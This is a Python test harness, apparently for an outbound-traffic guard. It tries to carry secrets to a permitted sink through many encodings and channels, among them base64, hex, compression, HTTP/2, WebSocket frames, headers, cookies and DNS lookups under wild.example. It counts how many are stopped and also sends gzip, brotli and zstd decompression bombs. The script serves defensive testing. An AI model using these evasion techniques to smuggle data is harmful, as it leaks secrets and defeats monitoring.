"""Ways to carry secrets out, each an encoding in a place, tried one by one on a host that is allowed: prints how many of each were stopped.

What the server got is judged by judge.py; here a request counts as stopped if it was not answered with 200. With WAYS=once each
way is tried with the first secret alone, which shows without the guard that it arrives.
"""
import base64
import codecs
import collections
import concurrent.futures
import gzip
import io
import json
import os
import sys
import tarfile
import time
import urllib.parse
import zlib

import brotli
import zstandard

from clients import ask, lookup, two, websocket

SECRETS = [word for word in os.environ["WORDS"].split() if word]
ONCE = os.environ.get("WAYS") == "once"
noise = os.urandom(12_000).hex().encode()
filler = b".- " * 8000


def b64(s, before=b""):
    return base64.b64encode(before + s.encode())


def each(form, between=""):
    return lambda s: between.join(form.format(ord(c)) for c in s).encode()


# What fits into a name, a line or a field; what does not.
NARROW = {
    "raw": str.encode,
    "base64": b64,
    "base64 shifted by one": lambda s: b64(s, b"x"),
    "base64 shifted by two": lambda s: b64(s, b"xy"),
    "base64 for URLs": lambda s: base64.urlsafe_b64encode(b"?>" + s.encode()).rstrip(b"="),
    "base32": lambda s: base64.b32encode(s.encode()).rstrip(b"="),
    "hex": lambda s: s.encode().hex().encode(),
    "hex in capitals": lambda s: s.encode().hex().upper().encode(),
    "hex with colons": lambda s: s.encode().hex(":").encode(),
    "percent": each("%{:02X}"),
    "reversed": lambda s: s[::-1].encode(),
    "rot13": lambda s: codecs.encode(s, "rot13").encode(),
}
WIDE = NARROW | {
    "base64 in lines": lambda s: base64.encodebytes(b"z" * 50 + s.encode()),
    "utf-16": lambda s: s.encode("utf-16-le"),
    "utf-16, the high byte first": lambda s: s.encode("utf-16-be"),
    "json escapes": each("\\u{:04x}"),
    "escapes of C": each("\\x{:02x}"),
    "octal escapes": each("\\{:03o}"),
    "escapes of newer languages": each("\\u{{{:x}}}"),
    "entities": each("&#{};"),
    "entities in hex": each("&#x{:X};"),
    "quoted-printable": each("={:02X}"),
    "decimal numbers": each("{}", ", "),
    "numbers in hex": each("0x{:02x}", ","),
    "a line for each letter": lambda s: "\n".join(s).encode(),
    "escaped line breaks": lambda s: "%0d%0a".join(s).encode(),
    "escaped quotes": lambda s: "\\u0022\\u002c".join(s).encode(),
    "a list of parts": lambda s: json.dumps([s[at : at + 4] for at in range(0, len(s), 4)]).encode(),
}
FEW = {name: WIDE[name] for name in ("raw", "base64", "hex", "percent", "json escapes", "entities", "a list of parts")}


def post(path, body, told=None):
    return ask("POST", path, body, {"Content-Encoding": told} if told else {})


def multipart(p):
    return b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + p + b"\r\n--b--\r\n"


def form(path, body):
    return ask("POST", path, body, {"Content-Type": "application/x-www-form-urlencoded"})


def split(payload, size):
    return [payload[at : at + size] for at in range(0, len(payload), size)]


def upload(path, p):
    return ask("POST", path, multipart(p), {"Content-Type": "multipart/form-data; boundary=b"})


# By place: which encodings, and how a payload is sent there.
PLACES = {
    "a body": (WIDE, lambda path, p: post(path, b"x " + p)),
    "a body in chunks of a byte": (FEW, lambda path, p: ask("POST", path, chunks=split(p, 1))),
    "a body in chunks of seven": (WIDE, lambda path, p: ask("POST", path, chunks=split(b"x " + p, 7))),
    "within a large body": (WIDE, lambda path, p: post(path, filler + p + filler)),
    "over a seam of 64 KiB": (FEW, lambda path, p: post(path, (filler * 3)[: (1 << 16) - 7] + p + filler)),
    "a file of a form": (WIDE, upload),
    "a field of a form": (NARROW, lambda path, p: form(path, b"a=1&b=" + p + b"&c=2")),
    "json": (NARROW, lambda path, p: post(path, json.dumps({"a": [1, p.decode()]}).encode())),
    "gzip": (WIDE, lambda path, p: post(path, gzip.compress(noise[:900] + b" " + p), "gzip")),
    "deflate": (FEW, lambda path, p: post(path, zlib.compress(b"x " + p), "deflate")),
    "br": (FEW, lambda path, p: post(path, brotli.compress(noise[:900] + b" " + p), "br")),
    "zstd": (FEW, lambda path, p: post(path, zstandard.compress(noise[:900] + b" " + p), "zstd")),
    "gzip, told nobody": (FEW, lambda path, p: ask("POST", path, chunks=split(gzip.compress(b"x " + p), 5))),
    "a parameter": (NARROW, lambda path, p: ask("GET", f"{path}?a=1&b={p.decode()}&c=2")),
    "a path": (NARROW, lambda path, p: ask("GET", f"{path}/x/{p.decode()}/y")),
    "a header": (NARROW, lambda path, p: ask("GET", path, headers={"X-Note": b"x " + p})),
    "a cookie": (NARROW, lambda path, p: ask("GET", path, headers={"Cookie": b"a=1; b=" + p})),
    "basic auth": ({"raw": str.encode}, lambda path, p: ask("GET", path, headers={"Authorization": b"Basic " + b64("u:" + p.decode())})),
    "a trailer": (NARROW, lambda path, p: ask("POST", path, b"x", {"Trailer": "X-Last"}, trailers=[(b"X-Last", p)])),
    "frames of HTTP/2": (FEW, lambda path, p: two(b"POST", path.encode(), split(b"x " + p, 9))),
    "a header of HTTP/2": (FEW, lambda path, p: two(b"GET", path.encode(), headers=[(b"x-note", p)])),
    "a path of HTTP/2": ({"raw": str.encode, "hex": NARROW["hex"], "base32": NARROW["base32"]}, lambda path, p: two(b"GET", path.encode() + b"/" + p)),
    "a trailer of HTTP/2": (NARROW, lambda path, p: two(b"POST", path.encode(), [b"x"], [(b"trailer", b"x-last")], [(b"x-last", p)])),
    "a WebSocket": (FEW, lambda path, p: websocket(path, [(0x81, p)])),
    "a WebSocket in parts": ({"raw": str.encode, "hex": NARROW["hex"]}, lambda path, p: websocket(path, [(0x02, p[:9]), (0x80, p[9:])])),
    "a ping of a WebSocket": ({"raw": str.encode}, lambda path, p: websocket(path, [(0x89, p)])),
}


def tar(s):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        info = tarfile.TarInfo("x")
        info.size = len(s)
        t.addfile(info, io.BytesIO(s.encode()))
    return out.getvalue()


def far(s):
    parameters = zstandard.ZstdCompressionParameters(window_log=27, enable_ldm=True)
    packer = zstandard.ZstdCompressor(compression_params=parameters).compressobj()
    return packer.compress(noise + s.encode()) + packer.flush()


def named(s):
    out = io.BytesIO()
    with gzip.GzipFile(s, "wb", fileobj=out) as g:
        g.write(b"x")
    return out.getvalue()


def halves(s):
    return s[: len(s) // 2], s[len(s) // 2 :]


def labels(s):
    text = s.encode().hex()
    return f"{text[:60]}.{text[60:] or 'x'}.wild.example"


z = zstandard.compress
# What is neither.
OTHERS = {
    "two headers": lambda path, s: ask("GET", path, headers=dict(zip(("X-A", "X-B"), halves(s)))),
    "two parameters": lambda path, s: ask("GET", "{}?a={}&b={}".format(path, *halves(s))),
    "two headers of HTTP/2": lambda path, s: two(b"GET", path.encode(), headers=[(b"x-a", halves(s)[0].encode()), (b"x-b", halves(s)[1].encode())]),
    "user agent": lambda path, s: ask("GET", path, headers={"User-Agent": "x/1 " + s}),
    "a referer": lambda path, s: ask("GET", path, headers={"Referer": f"https://{s}.example/"}),
    "the name of a header": lambda path, s: ask("GET", path, headers={"X-" + s: "1"}),
    "bearer": lambda path, s: ask("GET", path, headers={"Authorization": "Bearer " + s}),
    "the type of a body": lambda path, s: ask("POST", path, b"x", {"Content-Type": "text/plain; x=" + s}),
    "a name of a file in a form": lambda path, s: upload(path, b"x") and post(path, multipart(b"x").replace(b'="x"', b'="' + s.encode() + b'"')),
    "gzip, large": lambda path, s: post(path, gzip.compress(noise + s.encode()), "gzip"),
    "br, large": lambda path, s: post(path, brotli.compress(noise + s.encode() + noise, quality=4), "br"),
    "br, by bytes": lambda path, s: ask("POST", path, chunks=split(brotli.compress(s.encode() * 3), 1), headers={"Content-Encoding": "BR"}),
    "br that is none": lambda path, s: post(path, s.encode()[::-1], "br"),
    "zstd, large": lambda path, s: post(path, z(noise + s.encode() + noise), "zstd"),
    "zstd, two frames": lambda path, s: post(path, z(noise[:90]) + z(s.encode() * 3), "zstd"),
    "zstd, told nobody": lambda path, s: ask("POST", path, chunks=[z(s.encode() * 3)[:2], z(s.encode() * 3)[2:]]),
    "zstd in a form": lambda path, s: post(path, multipart(z(s.encode() * 3))),
    "zstd that refers back 128 MiB": lambda path, s: post(path, far(s), "zstd"),
    "gzip in a form": lambda path, s: post(path, multipart(gzip.compress(s.encode()))),
    "behind gzip": lambda path, s: post(path, gzip.compress(b"x") + s.encode()),
    "what begins as gzip": lambda path, s: post(path, b"\x1f\x8b\x08\x00 it is none " + s.encode()),
    "the name in gzip": lambda path, s: post(path, named(s), "gzip"),
    "deflate, told nobody": lambda path, s: post(path, zlib.compress(s.encode())),
    "a coding of the transfer": lambda path, s: ask("POST", path, chunks=[zlib.compress(s.encode())[2:-4]], headers={"Transfer-Encoding": "deflate, chunked"}),
    "a method": lambda path, s: ask(s, path),
    "a tar archive": lambda path, s: post(path, tar(s)),
    "another encoding": lambda path, s: post(path, s.encode()[::-1], "compress"),
}
NAMES = {
    "hex": lambda s: lookup(labels(s)),
    "base32": lambda s: lookup(base64.b32encode(s.encode()).decode().strip("=").lower()[:60] + ".wild.example"),
    "letters": lambda s: lookup(".".join(s) + ".wild.example"),
    "raw": lambda s: lookup(s.lower() + ".wild.example"),
    "two labels": lambda s: lookup("{}.{}.wild.example".format(*halves(s.lower()))),
    "reversed": lambda s: lookup(s[::-1].lower() + ".wild.example"),
}
# What cannot be caught in principle, or is not.
BEYOND = {
    "thirds in three requests": lambda path, s: any([post(path, s[at : at + len(s) // 3 + 1].encode()) for at in range(0, len(s), len(s) // 3 + 1)]),
    "xor": lambda path, s: post(path, bytes(c ^ 0x5A for c in s.encode())),
    "base64 twice": lambda path, s: post(path, b64(b64(s).decode())),
}


def corpus():
    """Each way: its kind, its name, and what it does with a secret."""
    for place, (encodings, send) in PLACES.items():
        for encoding, encode in encodings.items():
            yield place, f"{encoding} in {place}", lambda path, s, send=send, encode=encode: send(path, encode(s))
    for name, way in OTHERS.items():
        yield "in a way of its own", name, way
    for name, way in NAMES.items():
        yield "a name", f"{name} in a name", lambda path, s, way=way: way(s)
    for name, way in BEYOND.items():
        yield "(not promised)", name, way


def main():
    print("clean", sum(post("/sink/clean", word) for word in [b"hello", b"no secret here", b"A" * 100]), ask("GET", "/sink/clean?a=b"))
    ways = list(corpus())
    secrets = SECRETS[:1] if ONCE else SECRETS
    begun = time.monotonic()
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        tries = [(kind, name, pool.submit(way, f"/sink/{number}", secret)) for number, (kind, name, way) in enumerate(ways) for secret in secrets]
        kinds, through = collections.Counter(), []
        for kind, name, tried in tries:
            kinds[kind, not tried.result()] += 1
            if tried.result():
                through.append(name)
    for kind in dict.fromkeys(kind for kind, _, _ in ways):
        count = len({name for own, name, _ in ways if own == kind})
        print(f"kind {kind}: {kinds[kind, True]}/{kinds[kind, True] + kinds[kind, False]}, {count} ways")
    promised = len({name for kind, name, _ in ways if not kind.startswith("(")})
    own = {name for kind, name, _ in ways if not kind.startswith("(")}
    print(f"all: {promised} ways, {len(secrets)} secrets, {time.monotonic() - begun:.1f} s")
    print("ways:", json.dumps([name for _, name, _ in ways]))
    print("through:", json.dumps(collections.Counter(name for name in through if name in own)))
    if ONCE:
        return
    # A bomb: a GiB in a MiB.
    bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [bomb.compress(bytes(1 << 20)) for _ in range(256)] + [bomb.flush()]
    print("bomb", post("/sink/bomb", b"".join(parts), "gzip"))
    zeros = bytes(1 << 27)
    print("bomb of br", post("/sink/bomb", brotli.compress(zeros, quality=4), "br"))
    print("bomb of zstd", post("/sink/bomb", z(zeros), "zstd"))
    fine = b"nothing but ordinary text " * 9000
    print("fine", post("/sink/fine", brotli.compress(fine), "br"), post("/sink/fine", z(fine), "zstd"))
    sys.stdout.flush()


main()
